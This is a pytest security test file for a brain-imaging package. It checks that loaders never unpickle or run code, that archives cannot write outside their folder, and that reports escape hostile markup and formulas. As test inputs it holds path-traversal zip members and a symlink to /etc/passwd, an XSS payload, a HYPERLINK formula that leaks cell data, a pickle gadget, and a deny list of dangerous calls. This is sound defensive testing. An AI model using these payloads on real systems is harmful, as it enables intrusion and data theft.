"""What a stranger's file must not do: run code, leave its folder, be run elsewhere."""

import ast
import io
import os
import pickle
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import brainlsap
from brainlsap.data import write_subject_folders
from brainlsap.data.spreadsheets import unguard_cells, write_tsv
from brainlsap.evaluation import read_splits, write_splits
from brainlsap.exceptions import BrainlsapError, CohortError, FileFormatError
from brainlsap.report import (
    interactive_html,
    table_text,
    write_quality_page,
    write_region_maps,
    write_report,
)
from brainlsap.study import write_predictions
from tests.fuzz.one_input import Place
from tests.fuzz.targets import TARGETS
from tests.report.conftest import draw_atlas, draw_evaluation

PACKAGE = Path(brainlsap.__file__).parent
MODULES = sorted(PACKAGE.rglob("*.py"))
REPOSITORY = PACKAGE.parent
PROGRAMS = [
    path
    for folder in ("benchmarks", "packaging", "tutorials", "docs")
    for path in sorted((REPOSITORY / folder).glob("*.py"))
]

# Each runs, fetches, unpacks or unpickles what a file says.
NEVER = {
    *("eval", "exec", "compile", "__import__", "os.system", "os.popen", "os.startfile"),
    *("pd.eval", "joblib.load", "tempfile.mktemp"),
    *("yaml.load", "yaml.load_all", "yaml.unsafe_load", "yaml.full_load"),
    *("shutil.unpack_archive", "pickle.load", "pickle.loads", "torch.hub.load"),
}
NEVER_METHODS = {"extractall", "extract", "unsafe_load", "full_load", "read_pickle"}
NEVER_IMPORTED = {
    *("pickle", "dill", "cloudpickle", "shelve", "marshal", "subprocess", "pty"),
    *("urllib", "requests", "http", "ftplib", "socket", "tarfile", "xmlrpc"),
}
# A call of these must say so.
MUST_SAY = {
    "np.load": ("allow_pickle", "False"),
    "numpy.load": ("allow_pickle", "False"),
    "torch.load": ("weights_only", "True"),
    "Environment": ("autoescape", "True"),
}


def dotted(node):
    if isinstance(node, ast.Name):
        return node.id
    return (
        f"{dotted(node.value)}.{node.attr}" if isinstance(node, ast.Attribute) else ""
    )


def found_in(source):
    """Return everything in a source that must not be there."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            names = {one.name.partition(".")[0] for one in node.names}
            found += sorted(names & NEVER_IMPORTED)
        elif isinstance(node, ast.ImportFrom) and node.module:
            found += sorted({node.module.partition(".")[0]} & NEVER_IMPORTED)
        elif isinstance(node, ast.Call):
            found += found_in_call(node)
    return found


def found_in_call(call):
    name = dotted(call.func)
    said = {one.arg: ast.unparse(one.value) for one in call.keywords}
    found = [name] if name in NEVER else []
    if isinstance(call.func, ast.Attribute) and call.func.attr in NEVER_METHODS:
        found.append(call.func.attr)
    if said.get("shell", "False") != "False":
        found.append("shell")
    key, wanted = MUST_SAY.get(name, (None, None))
    if key and said.get(key) != wanted:
        found.append(f"{name} without {key}={wanted}")
    return found


@pytest.mark.parametrize(
    "path", MODULES, ids=lambda path: path.relative_to(PACKAGE).as_posix()
)
def test_no_module_runs_fetches_or_unpickles(path):
    assert found_in(path.read_text(encoding="utf-8")) == []


# The guard against formulas stands in the first; the others hash the text.
MAY_WRITE_TABLES = {
    "data/spreadsheets.py",
    "evaluation/task_keys.py",
    "report/record.py",
}


def test_tables_become_text_in_one_place():
    found = {
        path.relative_to(PACKAGE).as_posix()
        for path in MODULES
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute)
        and (node.attr == "to_csv" or dotted(node) == "csv.writer")
    }
    assert found == MAY_WRITE_TABLES


@pytest.mark.parametrize("path", PROGRAMS, ids=lambda path: path.name)
def test_no_program_gives_a_text_to_a_shell(path):
    found = set(found_in(path.read_text(encoding="utf-8")))
    assert found.isdisjoint({"shell", "os.system", "os.popen"})
    assert not any(name.startswith("torch.load") for name in found)


@pytest.mark.parametrize(
    "source",
    [
        "import pickle",
        "from subprocess import run",
        "eval(text)",
        "os.system(text)",
        "run(text, shell=True)",
        "np.load(path)",
        "np.load(path, allow_pickle=True)",
        "torch.load(path)",
        "torch.load(path, weights_only=False)",
        "yaml.load(file)",
        "archive.extractall(folder)",
        "pd.read_pickle(path)",
        "Environment(loader=loader)",
    ],
)
def test_the_guard_sees(source):
    assert len(found_in(source)) == 1


class Bomb:
    """Makes a folder when it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


DOORS = ("c.npy", "c.npz", "weights.npy", "toy.npz", "split.npz", "ind.toy.graph")


@pytest.mark.parametrize("name", [*DOORS, "m.safetensors", "c.cohort.h5", "d.mat"])
def test_a_pickled_program_is_never_run(name, tmp_path):
    bomb, mark = np.array([[Bomb(tmp_path / "ran")]], dtype=object), tmp_path / "ran"
    content = pickle.dumps(Bomb(mark))
    if name.endswith(("npy", "npz")):
        out = io.BytesIO()
        arrays = {"connectome": bomb, "names": bomb, "labels": bomb, "adj_data": bomb}
        arrays |= {"train_mask": bomb, "class_names": bomb}
        if name.endswith("npy"):
            np.save(out, bomb, allow_pickle=True)
        else:
            np.savez(out, **arrays)
        content = out.getvalue()
    place = Place(TARGETS[name])
    assert not place.try_bytes(content)
    assert not mark.exists()
    pickle.loads(pickle.dumps(Bomb(mark)))  # what Python's own reader does
    assert mark.is_dir()
    place.close()


@pytest.mark.parametrize("name", ["c.npz", "toy.npz", "stored.trx", "t.xlsx"])
@pytest.mark.parametrize("member", ["../evil.npy", "/tmp/brainlsap_evil.npy"])
def test_archives_put_nothing_anywhere(name, member, tmp_path):
    place = Place(TARGETS[name], tmp_path)
    out = io.BytesIO(place.seed)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(member, b"evil")
        link = zipfile.ZipInfo("link.npy")
        link.external_attr = 0o120777 << 16  # a symbolic link
        archive.writestr(link, "/etc/passwd")
    before = set(tmp_path.rglob("*"))
    place.try_bytes(out.getvalue())
    assert set(tmp_path.rglob("*")) == before
    assert not Path("/tmp/brainlsap_evil.npy").exists()
    place.close()


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    from brainlsap.data import make_cohort

    folder = tmp_path_factory.mktemp("secure") / "study"
    return write_subject_folders(make_cohort(6, atlas="desikan82"), folder)


@pytest.mark.parametrize("name", ["../outside", "/etc", "sub-01/../../outside", ".."])
def test_participants_name_no_place_outside(tmp_path, name):
    from brainlsap.data import load_cohort

    folder = tmp_path / "study"
    folder.mkdir()
    text = f"participant_id\tdiagnosis\n{name}\tCN\nsub-02\tAD\n"
    (folder / "participants.tsv").write_text(text)
    with pytest.raises(CohortError, match="must be the name of a subject"):
        load_cohort(folder, "desikan82", "fdg")


def test_a_link_in_a_cohort_leads_nowhere(study, tmp_path):
    from brainlsap.data import load_cohort

    folder = tmp_path / "study"
    folder.mkdir()
    name = next(path.name for path in sorted(study.glob("sub-*")))
    text = (study / "participants.tsv").read_text().splitlines()
    rows = [text[0], *(row for row in text if row.startswith(name))]
    (folder / "participants.tsv").write_text("\n".join(rows) + "\n")
    (folder / name).symlink_to(study / name)
    with pytest.raises(CohortError, match="is a link that leads out of the cohort's"):
        load_cohort(folder, "desikan82", "fdg")


SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"


@pytest.fixture(scope="module")
def hostile_atlas():
    from dataclasses import replace

    atlas = draw_atlas()
    regions = atlas.regions.assign(
        long_name=SCRIPT, lobe=SCRIPT, short_name=[f"{k}{SCRIPT}" for k in range(7)]
    )
    return replace(atlas, regions=regions)


@pytest.mark.filterwarnings("ignore:constrained_layout not applied")  # long names
def test_a_report_holds_no_markup_of_a_stranger(hostile_atlas, tmp_path):
    evaluation = draw_evaluation(n_people=9, classes=("CN", SCRIPT), name=SCRIPT)
    page = write_report(
        evaluation,
        tmp_path / "x",
        atlas=hostile_atlas,
        title=SCRIPT,
        cohort_notes=[SCRIPT],
    )
    for path in page.parents[1].rglob("*.html"):
        html = path.read_text(encoding="utf-8")
        assert "<img src=x" not in html
        assert "<script>alert" not in html
    assert "&lt;img src=x" in page.read_text(encoding="utf-8")
    inside = page.parents[1].resolve()
    assert all(path.resolve().is_relative_to(inside) for path in inside.rglob("*"))


def test_an_interactive_brain_holds_no_markup_of_a_stranger():
    from brainlsap.data import load_atlas

    atlas = load_atlas("desikan82")
    maps = {SCRIPT: dict.fromkeys(atlas.names, 1.0)}
    maps[SCRIPT][atlas.names[0]] = 2.0
    html = interactive_html(
        pd.DataFrame(maps), atlas, title=SCRIPT, colorbar_label=SCRIPT
    )
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert html.count("</script>") == 2


def test_a_quality_page_holds_no_markup_of_a_stranger(tmp_path):
    from dataclasses import replace

    from brainlsap.data import make_cohort

    cohort = make_cohort(6, atlas="desikan82")
    table = cohort.table.assign(scan=[f"={k}{SCRIPT}" for k in range(cohort.n_scans)])
    cohort = replace(cohort, table=table, notes=(SCRIPT,))
    page = write_quality_page(cohort, tmp_path / "q", with_identifiers=True)
    html = page.read_text(encoding="utf-8")
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert "&lt;img src=x" in html
    lines = (tmp_path / "q" / "quality_scans.tsv").read_text().splitlines()
    assert all(line.startswith("'=") for line in lines[1:])


FORMULA = '=HYPERLINK("http://x?"&A1)'
SAFE = "'=HYPERLINK"


def hostile_table():
    return pd.DataFrame({"scan": [FORMULA, "@a"], "n": [-1, 2]})


def written(path):
    return path.read_text(encoding="utf-8").replace('"', "")


def write_split(path):
    return write_splits(
        [([0], [1])], path, scans=[FORMULA, "b"], participants=[FORMULA, "b"]
    )


WRITERS = {
    "splits": write_split,
    "tsv": lambda path: write_tsv(hostile_table(), path),
    "predictions": lambda path: write_predictions(hostile_table(), path),
    "csv": lambda path: path.write_text(table_text(hostile_table(), "csv")),
    "tsv text": lambda path: path.write_text(table_text(hostile_table(), "tsv")),
}


@pytest.mark.parametrize("name", WRITERS)
def test_no_written_cell_is_a_formula(name, tmp_path):
    path = tmp_path / "t.tsv"
    WRITERS[name](path)
    text = written(path)
    assert SAFE in text
    cells = text.replace(",", "\t").replace("\n", "\t").split("\t")
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)


def test_exported_maps_have_no_formula_in_a_name(tmp_path):
    from dataclasses import replace

    atlas = draw_atlas()
    atlas = replace(atlas, regions=atlas.regions.assign(lobe=FORMULA))
    values = {FORMULA: dict.fromkeys(atlas.names, 1.0)}
    out = tmp_path / "out"
    formats = ["tsv", "csv", "ggseg"]
    write_region_maps(pd.DataFrame(values), out, atlas, formats=formats)
    for path in out.glob("*.[ct]sv"):
        assert SAFE in written(path)
        assert "\t=HYP" not in written(path)
        assert ",=HYP" not in written(path)


def test_splits_with_such_names_come_back(tmp_path):
    path = write_split(tmp_path / "s.tsv")
    ((train, test),) = read_splits(path, [FORMULA, "b"])
    assert (train.tolist(), test.tolist()) == ([0], [1])
    table = pd.read_csv(path, sep="\t", dtype=str)
    assert FORMULA in unguard_cells(table)["scan"].tolist()


def test_errors_of_all_doors_are_of_one_family():
    assert issubclass(FileFormatError, BrainlsapError)
